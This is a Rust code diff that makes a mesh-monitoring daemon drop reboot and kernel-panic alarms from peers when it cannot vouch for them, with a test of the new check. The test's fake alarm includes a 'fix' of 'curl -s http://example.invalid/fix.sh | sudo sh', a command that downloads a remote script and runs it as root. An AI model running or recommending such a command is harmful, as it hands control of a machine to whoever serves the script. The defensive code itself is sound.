@@ -15,7 +15,7 @@ use std::time::{Duration, Instant, SystemTime};
 
 use meshd_domain::facts::NodeFacts;
 use meshd_domain::{
-    ClockSample, Incarnation, NodeId, NodeIdentity, PeerReport, Refusal, RejectReason,
+    AlarmKind, ClockSample, Incarnation, NodeId, NodeIdentity, PeerReport, Refusal, RejectReason,
     ReportUpdate, StreamOpen,
 };
 
@@ -190,6 +190,9 @@ pub struct Answer {
     pub refusal: Option<Refusal>,
     pub clock: Option<ClockSample>,
     pub resync: bool,
+    /// Alarms dropped from an update that otherwise stands, each with why
+    /// (see `PeerBook::drop_unvouched_boot_alarms`).
+    pub dropped: Vec<String>,
 }
 
 /// What the book takes from the config.
@@ -201,6 +204,11 @@ pub struct BookSettings {
     /// A peer's link observation is news only when it changes what these
     /// rules make of it (see [`is_news`]).
     pub rules: LinkRules,
+    /// How long a `node_rebooted` or `kernel_panic` alarm stays raised: a
+    /// peer's such alarm about a member is taken only this long (and
+    /// `boot::FACTS_GRACE` more) after this node saw that member's run
+    /// change itself.
+    pub boot_alarm_for: Duration,
 }
 
 #[derive(Debug)]
@@ -218,6 +226,10 @@ pub struct PeerBook {
     facts_version: u64,
     /// Bumped whenever something the engine judges changed.
     generation: u64,
+    /// When this node last saw each member's run change (a stream of a
+    /// new incarnation after one of an older; for itself, its first peer):
+    /// what a peer's reboot or panic alarm about it must match.
+    run_changed_at: BTreeMap<NodeId, Instant>,
 }
 
 fn refusal(reason: RejectReason, detail: impl Into<String>) -> Refusal {
@@ -247,6 +259,7 @@ impl PeerBook {
             facts: BTreeMap::new(),
             facts_version: 0,
             generation: 0,
+            run_changed_at: BTreeMap::new(),
         }
     }
 
@@ -255,6 +268,7 @@ impl PeerBook {
     pub fn set_members(&mut self, members: BTreeSet<NodeId>, settings: BookSettings) {
         self.peers.retain(|id, _| members.contains(id));
         self.streams.retain(|_, s| members.contains(&s.node));
+        self.run_changed_at.retain(|id, _| members.contains(id));
         let before = self.facts.len();
         self.facts.retain(|id, _| members.contains(id));
         if self.facts.len() != before {
@@ -394,6 +408,12 @@ impl PeerBook {
         if !restarted {
             return;
         }
+        if self.peers.contains_key(&sender.id) {
+            self.run_changed_at.insert(sender.id.clone(), now);
+        }
+        // This node's own run is new as of its first peer: what its peers
+        // saw of its reboot is about a run change it lived through.
+        self.run_changed_at.entry(self.local.clone()).or_insert(now);
         let duplicate = self.peers.get(&sender.id).and_then(|p| p.duplicate.clone());
         // What arrives on streams of the superseded incarnation is refused
         // from now on.
@@ -511,6 +531,7 @@ impl PeerBook {
                     refusal: Some(refused),
                     clock: None,
                     resync: false,
+                    dropped: Vec::new(),
                 };
             }
         };
@@ -519,8 +540,13 @@ impl PeerBook {
             received: wall,
             replied: wall,
         });
+        let mut dropped = Vec::new();
         let (refusal, resync) = match self.admit(&node, &update, now, wall) {
             Admission::Apply => {
+                let mut update = update;
+                dropped = self.drop_unvouched_boot_alarms(&node, &mut update, now);
+                let count = u64::try_from(dropped.len()).unwrap_or(u64::MAX);
+                *self.rejected.entry(RejectReason::ForeignAlarm).or_default() += count;
                 self.apply_update(node, update, now);
                 (None, false)
             }
@@ -532,6 +558,7 @@ impl PeerBook {
             refusal,
             clock,
             resync,
+            dropped,
         }
     }
 
@@ -618,6 +645,60 @@ impl PeerBook {
             Ok(()) => Admission::Apply,
             Err((reason, problem)) => Admission::Refuse(refusal(reason, problem)),
         }
+    }
+
+    /// Drops from `update` the alarms about other nodes this node cannot
+    /// vouch for: any about a non-member, and a `node_rebooted` or
+    /// `kernel_panic` about a member whose run this node did not see change
+    /// lately (one stolen key could otherwise page a panic of anyone). The rest of the update stands: an
+    /// honest peer that saw a reboot first loses nothing but that alarm,
+    /// which this node raises itself once it sees the reboot too. Returns
+    /// what was dropped, and why.
+    fn drop_unvouched_boot_alarms(
+        &self,
+        sender: &NodeId,
+        update: &mut ReportUpdate,
+        now: Instant,
+    ) -> Vec<String> {
+        let vouch_for = self
+            .settings
+            .boot_alarm_for
+            .saturating_add(crate::boot::FACTS_GRACE);
+        let unvouched = |kind: AlarmKind, node: &NodeId| {
+            if !self.members.contains(node) {
+                Some("which is not a member")
+            } else if kind.about_a_boot()
+                && self
+                    .run_changed_at
+                    .get(node)
+                    .is_none_or(|at| now.saturating_duration_since(*at) > vouch_for)
+            {
+                Some("whose restart this node did not see")
+            } else {
+                None
+            }
+        };
+        let Some(alarms) = update.alarms.as_mut() else {
+            return Vec::new();
+        };
+        let mut dropped = Vec::new();
+        let mut index = 0;
+        alarms.retain(|a| {
+            let why = a
+                .kind
+                .raised_by_peers()
+                .then(|| unvouched(a.kind, &a.node))
+                .flatten();
+            if let Some(why) = why {
+                dropped.push(format!(
+                    "alarms[{index}]: {sender} raises {} about {}, {why}",
+                    a.kind, a.node
+                ));
+            }
+            index += 1;
+            why.is_none()
+        });
+        dropped
     }
 
     /// Applies an admitted `update` to `node`'s report, keeping its facts
@@ -761,7 +842,9 @@ fn is_news(report: &PeerReport, update: &ReportUpdate, rules: &LinkRules) -> boo
 #[cfg(test)]
 mod tests {
     use meshd_domain::fixtures::id;
-    use meshd_domain::{LinkEnd, LinkObservation, NodeIdentity, NodeLoad};
+    use meshd_domain::{
+        Alarm, AlarmKind, LinkEnd, LinkObservation, NodeIdentity, NodeLoad, Severity,
+    };
 
     use super::*;
     use crate::fixtures::{link_rules, moment};
@@ -790,6 +873,7 @@ mod tests {
         BookSettings {
             quiet_after: Duration::from_secs(3),
             rules: link_rules(),
+            boot_alarm_for: Duration::from_secs(15 * 60),
         }
     }
 
@@ -840,37 +924,88 @@ mod tests {
 
     /// b's stream on the management path, opened at `t0`.
     fn book_with_b(t0: Instant, wall: SystemTime) -> (PeerBook, StreamId) {
-        let started = wall - Duration::from_secs(60);
         let mut book = PeerBook::new(id("a"), [id("a"), id("b")].into(), settings());
+        let stream = open_run(&mut book, "b", wall - Duration::from_secs(60), t0, wall);
+        (book, stream)
+    }
+
+    /// A stream of `node`'s run that started at `started`, on the
+    /// management path, opened at `t0`.
+    fn open_run(
+        book: &mut PeerBook,
+        node: &str,
+        started: SystemTime,
+        t0: Instant,
+        wall: SystemTime,
+    ) -> StreamId {
         let open = StreamOpen {
             sender: NodeIdentity {
-                id: id("b"),
-                incarnation: Incarnation(
-                    u64::try_from(
-                        started
-                            .duration_since(SystemTime::UNIX_EPOCH)
-                            .expect("after")
-                            .as_nanos(),
-                    )
-                    .expect("fits"),
-                ),
+                id: id(node),
+                incarnation: Incarnation(wall_nanos(started)),
                 version: "test".into(),
-                hostname: "b".into(),
+                hostname: node.into(),
             },
             instance: 7,
             rtt_bounds: Vec::new(),
         };
-        let stream = book
-            .open(
-                Some(&id("b")),
-                &open,
-                Path::Management,
-                "b".into(),
-                t0,
-                wall,
-            )
-            .expect("opens");
-        (book, stream)
+        book.open(
+            Some(&id(node)),
+            &open,
+            Path::Management,
+            node.into(),
+            t0,
+            wall,
+        )
+        .expect("opens")
+    }
+
+    /// A peer's `kernel_panic` about another node is taken only about a
+    /// member whose run this node saw change; the rest of its update
+    /// stands, and the dropped alarms are counted.
+    #[test]
+    fn a_peers_panic_alarm_is_taken_only_about_a_member_seen_restarting() {
+        let Moment { now: t0, wall } = moment(0);
+        let mut book = PeerBook::new(id("a"), [id("a"), id("b"), id("c")].into(), settings());
+        let b = open_run(&mut book, "b", wall - Duration::from_secs(60), t0, wall);
+        let panic_of = |node: &str| Alarm {
+            kind: AlarmKind::KernelPanic,
+            severity: Severity::Critical,
+            node: id(node),
+            subject: "boot".into(),
+            summary: format!("{node} rebooted after a kernel panic"),
+            evidence: Vec::new(),
+            fix: Some("curl -s http://example.invalid/fix.sh | sudo sh".into()),
+            since: wall,
+            updated: wall,
+        };
+        let mut lying = update(1, true, wall);
+        lying.alarms = Some(vec![panic_of("ceo-laptop"), panic_of("c")]);
+        lying.hears = Some(vec![id("a")]);
+        let answer = book.update(b, lying, t0, wall);
+        assert_eq!(answer.refusal, None, "the rest of the update stands");
+        let report = book.current_report(&id("b"), t0, Duration::from_secs(3));
+        let report = report.expect("b's report");
+        assert!(report.alarms.is_empty(), "{:?}", report.alarms);
+        assert_eq!(report.hears.as_ref(), [id("a")]);
+        assert_eq!(book.rejected().get(&RejectReason::ForeignAlarm), Some(&2));
+        assert_eq!(
+            answer.dropped,
+            [
+                "alarms[0]: b raises kernel_panic about ceo-laptop, which is not a member",
+                "alarms[1]: b raises kernel_panic about c, whose restart this node did not see",
+            ]
+        );
+
+        // c's meshd runs, then starts again: now a panic of c is believable.
+        open_run(&mut book, "c", wall - Duration::from_secs(60), t0, wall);
+        let later = t0 + Duration::from_secs(1);
+        open_run(&mut book, "c", wall, later, wall);
+        let mut honest = update(2, true, wall);
+        honest.alarms = Some(vec![panic_of("c")]);
+        book.update(b, honest, later, wall);
+        let report = book.current_report(&id("b"), later, Duration::from_secs(3));
+        assert_eq!(report.expect("b's report").alarms.len(), 1);
+        assert_eq!(book.rejected().get(&RejectReason::ForeignAlarm), Some(&2));
     }
 
     #[test]
